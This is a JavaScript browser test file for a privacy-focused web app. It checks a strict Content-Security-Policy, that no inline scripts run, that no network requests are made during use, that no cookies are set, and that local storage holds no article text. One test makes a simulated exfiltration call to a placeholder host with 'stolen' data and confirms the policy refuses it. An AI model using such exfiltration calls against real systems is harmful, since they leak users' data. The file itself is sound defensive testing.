// Nothing leaves the device, nothing foreign runs.

import assert from "node:assert/strict";

import { dataFile } from "../support/data.mjs";
import { BASE_URL } from "../support/environment.mjs";
import { expectEqual, expectTrue } from "../support/expect.mjs";
import { story } from "../support/story.mjs";

story("the page ships a strict policy, first in its head, and nothing inline", async ({ page }) => {
  const html = await (await fetch(BASE_URL)).text();
  const policy = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/)?.[1];
  assert.ok(policy, "there is a policy");
  assert.ok(html.indexOf("Content-Security-Policy") < html.search(/<(script|link|style)\b/), "it comes before what it governs");
  const rules = Object.fromEntries(policy.split(";").map((rule) => {
    const [name, ...sources] = rule.trim().split(/\s+/);
    return [name, sources.join(" ")];
  }));
  assert.equal(rules["default-src"], "'none'");
  assert.equal(rules["connect-src"], "'self'");
  assert.equal(rules["script-src"], "'self' 'wasm-unsafe-eval'");
  assert.equal(rules["style-src"], "'self'");
  assert.equal(rules["base-uri"], "'none'");
  assert.equal(rules["form-action"], "'none'");
  assert.equal(rules["object-src"], "'none'");
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|https?:|\*/);
  assert.doesNotMatch(html, /<style|\sstyle=|\son\w+=|<script(?![^>]*\ssrc=)/i);
  // And in the page as it is after the start.
  const inline = await page.evaluate(() => document.querySelectorAll("style, script:not([src])").length);
  assert.equal(inline, 0);
});

story("once the page has loaded, working for a while makes no request at all", async ({ app, page }) => {
  // The last part of the program comes when the page is idle.
  await page.waitForLoadState("networkidle");
  const requests = [];
  page.on("request", (request) => requests.push(request.url()));
  await app.openArticle(dataFile("article.txt"), "article");
  await app.article.select("eleven berths");
  await app.keys.press("d");
  await app.details.memo.fill("not for others");
  await app.export();
  await app.header.choose("Settings");
  await app.dialogs.close();
  await app.saved();
  assert.deepEqual(requests.filter((url) => !/^(blob|data):/.test(url)), []);
});

story("a script that comes with the page cannot reach anybody", async ({ page, watch }) => {
  watch.allow(/./);
  const reached = await page.evaluate(async () => {
    try {
      await fetch("https://example.invalid/?stolen=text");
      return "reached";
    } catch {
      return "refused";
    }
  });
  assert.equal(reached, "refused");
  await expectTrue(() => watch.seen(/connect-src/), "it was the policy that refused");
});

story("the site knows no cookies, and its preferences hold no text of articles", async ({ app, page, context }) => {
  await app.openArticle(dataFile("article.txt"), "article");
  await app.article.select("eleven berths");
  await app.keys.press("d");
  await app.saved();
  assert.deepEqual(await context.cookies(), []);
  const kept = await page.evaluate(() => JSON.stringify({ ...localStorage }));
  assert.doesNotMatch(kept, /eleven berths|harbour council/);
  await expectEqual(() => page.evaluate(() => document.cookie), "");
});
